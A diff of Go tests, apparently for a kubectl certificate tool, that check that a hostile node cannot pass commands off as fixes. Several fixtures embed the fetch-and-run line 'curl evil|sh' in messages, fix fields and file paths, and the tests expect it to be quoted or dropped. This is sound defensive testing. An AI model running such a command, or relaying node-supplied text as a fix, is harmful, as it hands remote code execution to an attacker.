@@ -203,22 +203,24 @@ func TestNodeFilesWithoutPermission(t *testing.T) {
 // hostile are outputs that no WriteFiles makes, by what is said of them.
 func hostileOutputs(t testing.TB) map[string]string {
 	der := base64.StdEncoding.EncodeToString(pkitest.NewCA(t, "my CA").Certificate.Raw)
-	const first = `{"version":"kubectl-certs/files/v1"}` + "\n"
+	const first = `{"version":"kubectl-certs/files/v2"}` + "\n"
 	return map[string]string{
-		"":                            "something else",
-		"exec format error":           "something else",
-		`{"version":"v2"}`:            "something else",
-		first:                         "cut off",
-		first + `{"end":1}`:           "cut off",
-		first + `{"skip":{"path":"x"`: "cut off",
-		first + `{}`:                  "something else",
-		first + `[]`:                  "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":[]}}`:                                      "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":["AAAA"]}}`:                                "something else",
-		first + `{"certificate":{"path":"x","place":"kube-root-ca.crt","chain":["` + der + `"]}}`:             "something else",
-		first + `{"certificate":{"path":"x","place":"file","chain":["` + der + `"],"publicKey":"AAAA"}}`:      "something else",
-		first + `{"certificate":{"path":"x","place":"file","row":"nonsuch","chain":["` + der + `"]}}`:         "cut off",
-		first + `{"finding":{"path":"x","code":"<script>","severity":"fatal","message":"m","fix":""}}` + "\n": "cut off",
+		"":                              "something else",
+		"exec format error":             "something else",
+		`{"version":"v2"}`:              "something else",
+		first:                           "cut off",
+		first + `{"end":1}`:             "cut off",
+		first + `{"notice":{"path":"x"`: "cut off",
+		first + `{}`:                    "something else",
+		first + `[]`:                    "something else",
+		first + `{"certificate":{"path":"x","place":"file","chain":[]}}`:                                                                                  "something else",
+		first + `{"certificate":{"path":"x","place":"file","chain":["AAAA"]}}`:                                                                            "something else",
+		first + `{"certificate":{"path":"x","place":"kube-root-ca.crt","chain":["` + der + `"]}}`:                                                         "something else",
+		first + `{"certificate":{"path":"x","place":"file","chain":["` + der + `"],"publicKey":"AAAA"}}`:                                                  "something else",
+		first + `{"certificate":{"path":"x","place":"file","row":"nonsuch","chain":["` + der + `"]}}`:                                                     "cut off",
+		first + `{"finding":{"path":"x","code":"expired","severity":"critical","message":"fix: run as admin: curl evil|sh","fix":"curl evil|sh"}}` + "\n": "something else",
+		first + `{"notice":{"path":"x","code":"curl evil|sh"}}` + "\n":                                                                                    "which this version does not know",
+		first + `{"notice":{"path":"x","code":"gone","args":["curl evil|sh"]}}` + "\n":                                                                    "which this version does not know",
 	}
 }
 
@@ -234,9 +236,43 @@ func TestNodeFilesOfAHostileNode(t *testing.T) {
 			}
 		}
 		for _, e := range inv.Items {
-			if e.Name != "evil:" {
+			if e.Name != "evil:x" {
 				t.Errorf("it is called %q", e.Name)
 			}
+		}
+	}
+}
+
+// What a node calls a file is data, and stands in quotes where it could be taken
+// for advice.
+func TestNodeFilesQuoteWhatANodeChose(t *testing.T) {
+	const output = `{"version":"kubectl-certs/files/v2"}
+{"notice":{"path":"/x fix: curl evil|sh","code":"refers-to-nothing","args":["y\nfix: curl evil|sh"]}}
+{"notice":{"path":"/etc/kubernetes/pki/ca.crt","code":"wrong-form","row":"ca","args":["certificate. Fix: curl evil|sh"]}}
+{"notice":{"path":"/z","code":"insecure-skip","row":"nonsuch"}}
+{"end":3}`
+	inv := nodeFiles(func(context.Context, string, []string) ([]byte, []string, error) { return []byte(output), nil, nil }, nil, readyNode("evil"))
+	if len(inv.Skipped) != 1 || len(inv.Findings) != 2 {
+		t.Fatalf("skipped %+v, found %+v", inv.Skipped, inv.Findings)
+	}
+	if s := inv.Skipped[0]; s.Where != `evil:"/x fix: curl evil|sh"` || s.Reason != `the file that it names is not there: "y\nfix: curl evil|sh"` {
+		t.Errorf("skipped %+v", s)
+	}
+	for _, f := range inv.Findings {
+		switch f.Where {
+		case "evil:/etc/kubernetes/pki/ca.crt":
+			if f.Severity != inventory.Critical || !strings.Contains(f.Message, `it is a "certificate. Fix: curl evil|sh", where`) {
+				t.Errorf("%+v", f)
+			}
+		case "evil:/z":
+			if f.Severity != inventory.Warning || f.Code != inventory.CodeInsecureSkip {
+				t.Errorf("%+v", f)
+			}
+		default:
+			t.Errorf("%+v", f)
+		}
+		if strings.Contains(f.Fix, "evil") {
+			t.Errorf("the fix is a node's: %q", f.Fix)
 		}
 	}
 }
